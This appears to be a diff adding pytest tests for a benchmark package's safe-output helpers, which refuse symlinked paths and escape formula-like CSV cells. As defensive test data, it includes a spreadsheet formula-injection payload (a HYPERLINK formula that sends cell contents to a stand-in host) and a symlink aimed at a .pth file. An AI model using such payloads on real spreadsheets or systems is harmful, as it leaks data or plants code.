@@ -1,0 +1,95 @@
+"""Safe output writes (sklearn_bench._io): no symlink followed, CSV cells that stay text."""
+
+import os
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from sklearn_bench._io import (
+    UnsafePathError,
+    check_no_symlink,
+    escape_cell,
+    escape_frame,
+    unescape_cell,
+    unescape_frame,
+    write_csv,
+    write_text,
+)
+
+
+def test_dangling_symlink_at_output_name_is_refused(tmp_path):
+    """H: a dangling link at the output name (Path.exists() is False) is refused,
+    and nothing is written where it points."""
+    target = tmp_path / "elsewhere" / "zz.pth"
+    target.parent.mkdir()
+    os.symlink(target, tmp_path / "out.csv")
+    with pytest.raises(UnsafePathError, match="symbolic link"):
+        write_text(tmp_path / "out.csv", "import os", root=tmp_path)
+    assert not target.exists()
+
+
+def test_symlinked_folder_below_root_is_refused(tmp_path):
+    """H: a link at any folder between the output root and the file is refused."""
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    out = tmp_path / "out"
+    out.mkdir()
+    os.symlink(victim, out / "figures")
+    with pytest.raises(UnsafePathError, match="the folder"):
+        write_text(out / "figures" / "a.svg", "<svg/>", root=out)
+    assert list(victim.iterdir()) == []
+
+
+def test_root_reached_through_a_link_is_allowed(tmp_path):
+    """H: the output root itself may be a link the user made; below it is checked."""
+    real = tmp_path / "real"
+    real.mkdir()
+    os.symlink(real, tmp_path / "alias")
+    write_text(tmp_path / "alias" / "a.txt", "x", root=tmp_path / "alias")
+    assert (real / "a.txt").read_text() == "x"
+
+
+def test_path_outside_root_is_refused(tmp_path):
+    """H: a path that escapes the output folder is refused."""
+    with pytest.raises(UnsafePathError, match="not inside"):
+        check_no_symlink(tmp_path.parent / "x", tmp_path)
+
+
+def test_plain_write_overwrites_regular_file(tmp_path):
+    """H: an existing regular file is overwritten as before."""
+    (tmp_path / "a.txt").write_text("old")
+    write_text(tmp_path / "a.txt", "new", root=tmp_path)
+    assert (tmp_path / "a.txt").read_text() == "new"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://x/?"&A1,"click")', "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'q"],
+)
+def test_formula_cells_escaped_and_read_back(name):
+    """H: OWASP's leading characters get an apostrophe; unescape gives the name back."""
+    assert escape_cell(name) == "'" + name
+    assert unescape_cell(escape_cell(name)) == name
+
+
+def test_plain_names_and_numbers_untouched():
+    """H: ordinary names, numbers (negative too) and NaN are written unchanged."""
+    assert escape_cell("logreg") == "logreg"
+    assert escape_cell(-0.5) == -0.5
+    assert unescape_cell("it's") == "it's"
+
+
+def test_csv_round_trip(tmp_path):
+    """H: a frame with formula-like names in cells, columns and index survives a
+    write_csv / read_csv / unescape_frame round trip; numeric columns stay numbers."""
+    frame = pd.DataFrame(
+        {"learner": ["=1+1", "ok", "-neg"], "=score": [-0.5, 0.25, np.nan]},
+        index=pd.Index(["@a", "b", "c"], name="dataset"),
+    )
+    write_csv(frame, tmp_path / "t.csv", root=tmp_path)
+    text = (tmp_path / "t.csv").read_text()
+    assert "'=1+1" in text and "-0.5" in text and "'@a" in text
+    back = unescape_frame(pd.read_csv(tmp_path / "t.csv", index_col=0))
+    pd.testing.assert_frame_equal(back, frame)
+    assert escape_frame(frame)["'=score"].tolist()[:2] == [-0.5, 0.25]
